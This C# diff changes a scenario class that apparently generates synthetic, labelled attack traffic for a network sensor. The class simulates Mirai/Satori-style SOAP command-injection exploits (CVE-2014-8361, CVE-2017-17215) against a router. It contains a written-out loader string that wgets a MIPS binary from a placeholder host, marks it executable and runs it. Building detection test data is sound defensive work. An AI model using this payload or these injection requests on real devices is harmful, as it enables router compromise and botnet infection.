@@ -7,7 +7,8 @@ namespace Analyzer.Generation.Scenarios;
 /// Mirai/Satori-style SOAP exploits from an infected LAN host: the Realtek miniigd AddPortMapping with a shell command
 /// in NewInternalClient (CVE-2014-8361; the IGD's control URL and the SDK's /picdesc.xml path), and the Huawei HG532
 /// DeviceUpgrade with <c>$(…)</c> in NewStatusURL and its hard-coded digest (CVE-2017-17215). They are sent to the
-/// router's IGD port, where they draw 402 and 404: what matters to a sensor is the content, not the path or port.
+/// router's IGD port, where they draw 402 (control URL) and 404 (the SDKs' paths): what matters to a sensor is the
+/// content, not the path or port.
 /// </summary>
 public sealed class SoapCommandInjectionScenario : AttackScenario
 {
@@ -21,8 +22,8 @@ public sealed class SoapCommandInjectionScenario : AttackScenario
         var random = ctx.Random;
         var attacker = net.Camera.Host;
         var router = net.RouterLan.V4;
-        var igd = new IgdClient(ctx, attacker.V4, "Mozilla/5.0 (Windows NT 6.1; rv:40.0) Gecko/20100101 Firefox/40.0",
-            ctx.Variation.ScriptHttp, SoapStyle.MiniUpnpc with { Client = SoapClientKind.Script });
+        const string userAgent = "Mozilla/5.0 (Windows NT 6.1; rv:40.0) Gecko/20100101 Firefox/40.0";
+        var igd = new IgdClient(ctx, attacker.V4, userAgent, ctx.Variation.ScriptHttp, SoapStyle.MiniUpnpc with { Client = SoapClientKind.Script });
         string loader = $"`cd /var; rm -rf nig; wget http://198.51.100.66/bins/mips -O nig; chmod 777 nig; ./nig realtek`";
         var injected = new PortMapping(47450, "TCP", 44382, loader, "syncthing", 0);
 
@@ -31,10 +32,15 @@ public sealed class SoapCommandInjectionScenario : AttackScenario
         ctx.Mark(LabelNames.ExploitAttempt, "soap-realtek-miniigd-injection", attacker.Ipv4, router.Address, at, t,
             "shell command in NewInternalClient (control URL)");
 
+        // The Realtek SDK's own path, as the bots send it whatever the device: this daemon does not serve it (404).
         at = t + random.Next(300_000, 1_500_000);
-        string body = SoapMessages.RequestBody(SoapStyle.MiniUpnpc, Network.IgdServiceType.WanIpConnection1, "AddPortMapping",
-            injected.AddArguments().ToArray());
-        (t, _) = igd.Raw(at, "AddPortMapping", injected.AddArguments().ToArray(), body, null, controlPath: "/picdesc.xml");
+        const string realtekService = Network.IgdServiceType.WanIpConnection1;
+        var arguments = injected.AddArguments().ToArray();
+        var soap = SoapStyle.MiniUpnpc with { Client = SoapClientKind.Script };
+        var request = SoapMessages.Request(ctx.Variation.ScriptHttp, soap, ScenarioContext.HostPort(router.Address, net.Igd.ControlPort),
+            "/picdesc.xml", realtekService, "AddPortMapping", userAgent,
+            SoapMessages.RequestBody(soap, realtekService, "AddPortMapping", arguments));
+        t = ctx.HttpExchange(at, attacker.V4, router, net.Igd.ControlPort, request, time => DescriptionHttp.NotFound(net.Igd.Server, time));
         ctx.Mark(LabelNames.ExploitAttempt, "soap-realtek-miniigd-injection", attacker.Ipv4, router.Address, at, t,
             "shell command in NewInternalClient (POST /picdesc.xml)");
 
